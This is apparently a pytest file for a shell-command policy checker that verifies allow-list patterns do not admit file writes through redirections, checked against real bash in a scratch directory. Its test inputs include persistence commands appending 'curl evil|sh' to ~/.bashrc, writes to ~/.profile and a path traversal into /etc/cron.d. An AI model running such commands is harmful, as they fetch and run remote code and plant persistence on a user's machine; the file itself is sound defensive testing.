"""An allow list over commands admits a command, not the files its redirections write.

`^echo\\s` in an allow list must not admit `echo 'curl evil|sh' >> ~/.bashrc`: writing a
file is a second action, admitted only by a pattern for `> TARGET`. Which redirections
write, and to what, is checked against a real bash in a scratch directory."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.policy.helpers import decide, policy_from, session_for
from visor.policy import shell

POLICY = """
version: "1.0"
default_action: deny
servers:
  - name: "sh"
    allowed: true
    tools:
      - name: "run"
        allowed: true
        rules:
          - type: allow_command_pattern
            patterns: ["^ls(\\\\s|$)", "^echo\\\\s", "^cat\\\\s", "^> /tmp/visor-out/[^/]+$"]
"""


@pytest.fixture(scope="module")
def checked() -> tuple[object, object]:
    policy = policy_from(POLICY)
    return policy, session_for(policy, "sh")


@pytest.mark.parametrize(
    "command",
    [
        "ls > ~/.bashrc",
        "echo 'curl x | sh' >> ~/.bashrc",
        "ls &> notes.txt",
        "cat a >| b",
        "ls >& out",
        "cat <> f",
        "ls; echo x > ~/.profile",
        "(echo x > y)",
        "echo $(ls > z)",
        "echo x > /tmp/visor-out/../../etc/cron.d/x",
        "echo x > /tmp/visor-out/a/b",
    ],
)
def test_a_write_no_pattern_admits_is_denied(checked, command: str) -> None:  # type: ignore[no-untyped-def]
    policy, session = checked
    d = decide(policy, session, "run", command=command)
    assert d.action == "deny", (command, d)
    assert "redirection" in d.reason


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "ls -la /tmp",
        "ls 2>/dev/null",
        "ls >&2",
        "ls 2>&1",
        "cat < input.txt",
        "echo done > /tmp/visor-out/result.txt",
        "ls > /dev/stderr",
    ],
)
def test_reads_descriptors_and_admitted_writes_pass(checked, command: str) -> None:  # type: ignore[no-untyped-def]
    policy, session = checked
    assert decide(policy, session, "run", command=command).action == "allow", command


BASH = shutil.which("bash")


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@pytest.mark.parametrize(
    "command",
    [
        "echo a > f1",
        "echo a >> f2; echo b >| f3",
        "echo a &> f4",
        "echo a &>> f5",
        "cat <> f6 </dev/null",
        "echo a >& f7",
        "echo a >&2 2>/dev/null",
        "(echo a > f8)",
        "{ echo a > f9; }",
        "echo $(echo a > f10)",
        "echo `echo a > f11`",
        "echo a 2> 'f 12' > \"f13\"",
        "echo a > f14 | cat > f15",
        "true 3> f16",
    ],
)
def test_writes_are_the_files_real_bash_creates(tmp_path: Path, command: str) -> None:
    reading = shell.read_command(command)
    assert reading.unreadable is None, reading.unreadable
    before = set(os.listdir(tmp_path))
    subprocess.run(
        [BASH, "--norc", "--noprofile", "-c", command],
        cwd=tmp_path,
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path)},
        capture_output=True,
        timeout=10,
        check=False,
    )
    created = set(os.listdir(tmp_path)) - before
    assert set(reading.writes) - {"/dev/null"} == created, (command, reading.writes, created)
